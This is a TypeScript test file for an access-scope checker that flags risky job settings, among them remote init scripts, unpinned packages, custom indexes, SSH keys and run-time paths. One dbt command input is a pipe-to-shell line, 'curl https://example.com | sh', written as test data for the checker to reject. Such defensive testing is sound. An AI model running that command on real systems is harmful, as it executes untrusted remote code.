import assert from "node:assert/strict";
import fc from "fast-check";
import { codeOf } from "../../../../core/access/scope/code.ts";
import { P1, proofOf, weakPoints } from "./scope-setup.ts";
import { type Settings, task, notebook, cluster, library, environment, git } from "./settings.ts";

describe("what the table of settings does not hold", () => {
  const unproven: readonly (readonly [string, Settings, string])[] = [
    ["a member of the job that is not in the table", { new_thing: { run: "x" } }, "new_thing"],
    ["a kind of task that is not", task({ magic_task: {} }), "tasks[0].magic_task"],
    [
      "a member of a task's kind that is not",
      task({ notebook_task: { notebook_path: "/files/a", hook: "x" } }),
      "tasks[0].notebook_task.hook",
    ],
    [
      "spark-submit",
      task({ spark_submit_task: { parameters: ["--class", "x"] } }),
      "tasks[0].spark_submit_task",
    ],
    [
      "a docker image by a tag",
      cluster({ docker_image: { url: "registry.example.com/x:latest" } }),
      "tasks[0].new_cluster.docker_image.url",
    ],
    [
      "init scripts in a bucket",
      cluster({ init_scripts: [{ s3: { destination: "s3://b/i.sh", region: "x" } }] }),
      "tasks[0].new_cluster.init_scripts[0].s3.destination",
    ],
    [
      "init scripts in DBFS",
      cluster({ init_scripts: [{ dbfs: { destination: "dbfs:/i.sh" } }] }),
      "tasks[0].new_cluster.init_scripts[0].dbfs.destination",
    ],
    ["a wheel in a bucket", library({ whl: "s3://bucket/x.whl" }), "tasks[0].libraries[0].whl"],
    [
      "a package without a version",
      library({ pypi: { package: "requests" } }),
      "tasks[0].libraries[0].pypi.package",
    ],
    [
      "a package index of its own",
      library({ pypi: { package: "x==1.0", repo: "https://index.example.com" } }),
      "tasks[0].libraries[0].pypi.repo",
    ],
    ["a CRAN package", library({ cran: { package: "x" } }), "tasks[0].libraries[0].cran"],
    [
      "a file of requirements",
      library({ requirements: "/files/requirements.txt" }),
      "tasks[0].libraries[0].requirements",
    ],
    [
      "a serverless dependency without a version",
      environment("requests>=2"),
      "environments[0].spec.dependencies[0]",
    ],
    [
      "an index among serverless dependencies",
      environment("--index-url https://index.example.com"),
      "environments[0].spec.dependencies[0]",
    ],
    [
      "requirements among serverless dependencies",
      environment("-r /files/requirements.txt"),
      "environments[0].spec.dependencies[0]",
    ],
    [
      "packages by configuration",
      cluster({ spark_conf: { "spark.jars.packages": "g:a:1" } }),
      "tasks[0].new_cluster.spark_conf.spark.jars.packages",
    ],
    [
      "a package index by the environment",
      cluster({ spark_env_vars: { PIP_INDEX_URL: "x" } }),
      "tasks[0].new_cluster.spark_env_vars.PIP_INDEX_URL",
    ],
    [
      "keys that sign in to the cluster",
      cluster({ ssh_public_keys: ["ssh-ed25519 AAAA"] }),
      "tasks[0].new_cluster.ssh_public_keys",
    ],
    [
      "a path that is put together at run time",
      notebook("/files/{{job.parameters.which}}"),
      "tasks[0].notebook_task.notebook_path",
    ],
    ["a path that is relative to nothing", notebook("n"), "tasks[0].notebook_task.notebook_path"],
    [
      "a path that climbs out of the Git source",
      git({ git_commit: "abc" }, notebook("../n")),
      "tasks[0].notebook_task.notebook_path",
    ],
    [
      "settings from the Git source",
      git({ git_commit: "abc", job_source: { job_config_path: "x" } }, notebook("n")),
      "git_source.job_source",
    ],
    [
      "packages of dbt",
      task({ dbt_task: { project_directory: "/files/dbt", commands: ["dbt deps", "dbt run"] } }),
      "tasks[0].dbt_task.commands[0]",
    ],
    ...[
      "dbt --log-level debug deps",
      "dbt 'de'ps --upgrade",
      "dbt run --project-dir /Shared/other",
      "dbt build --profiles-dir=/Shared/other",
      "dbt {{job.parameters.what}}",
      "sh -c 'curl https://example.com | sh'",
    ].map((command): readonly [string, Settings, string] => [
      `the command ${command}`,
      task({ dbt_task: { project_directory: "/files/dbt", commands: [command] } }),
      "tasks[0].dbt_task.commands[0]",
    ]),
    [
      "an entry point that is chosen at run time",
      task({ python_wheel_task: { package_name: "x", entry_point: "{{job.parameters.which}}" } }),
      "tasks[0].python_wheel_task.entry_point",
    ],
    [
      "a path in the Git source that is put together at run time",
      git({ git_commit: "abc" }, notebook("{{job.parameters.which}}")),
      "tasks[0].notebook_task.notebook_path",
    ],
    [
      "what is wrong in a for_each_task",
      task({ for_each_task: { inputs: "[]", task: { task_key: "b", odd_task: {} } } }),
      "tasks[0].for_each_task.task.odd_task",
    ],
    ...[
      "dashboard_task",
      "clean_rooms_notebook_task",
      "power_bi_task",
      "dbt_cloud_task",
      "dbt_platform_task",
    ].map((kind): readonly [string, Settings, string] => [
      `a ${kind}`,
      task({ [kind]: { id: "d" } }),
      `tasks[0].${kind}`,
    ]),
    ["a list that is none", { tasks: "x" }, "tasks"],
  ];
  for (const [what, settings, at] of unproven) {
    it(`does not vouch for ${what}, and says where it stands`, async () => {
      const code = codeOf(settings, "/files");
      const found = [...code.unproven, ...code.relative].map((one) => one.at);
      assert.ok(found.includes(at), `${at} not in ${found.join(", ")}`);
      if (settings["tasks"] === "x") return;
      const proof = await proofOf({ jobs: [{ key: "load_a", principal: P1, id: "11", settings }] });
      assert.ok(weakPoints(proof).includes("settings"));
      assert.equal(proof.grade, "unproven");
    });
  }
  it("judges every member, wherever a stranger's one is put", () => {
    const base: Settings = {
      ...cluster({ init_scripts: [{ workspace: { destination: "/files/i.sh" } }] }),
      environments: [{ environment_key: "e", spec: { client: "3" } }],
      job_clusters: [{ job_cluster_key: "k", new_cluster: { num_workers: 1 } }],
    };
    /** Objects that the table walks; what stands in an inert member decides nothing. */
    const places: readonly (readonly (string | number)[])[] = [
      [],
      ["tasks", 0],
      ["tasks", 0, "spark_python_task"],
      ["tasks", 0, "new_cluster"],
      ["tasks", 0, "new_cluster", "init_scripts", 0],
      ["tasks", 0, "new_cluster", "init_scripts", 0, "workspace"],
      ["environments", 0],
      ["environments", 0, "spec"],
      ["job_clusters", 0],
      ["job_clusters", 0, "new_cluster"],
    ];
    const strange = fc.string({ minLength: 1 }).map((name) => `x_${name}`);
    const value = fc.oneof(fc.integer(), fc.boolean(), fc.constant("x"), fc.constant({}), fc.constant(["y"]));
    fc.assert(
      fc.property(fc.constantFrom(...places), strange, value, (place, name, member) => {
        const settings = structuredClone(base) as Record<string | number, unknown>;
        let at: Record<string | number, unknown> = settings;
        for (const key of place) at = at[key] as Record<string | number, unknown>;
        at[name] = member;
        const before = codeOf(base, "/files").unproven.length;
        assert.equal(codeOf(settings as Settings, "/files").unproven.length, before + 1);
      }),
    );
  });
});
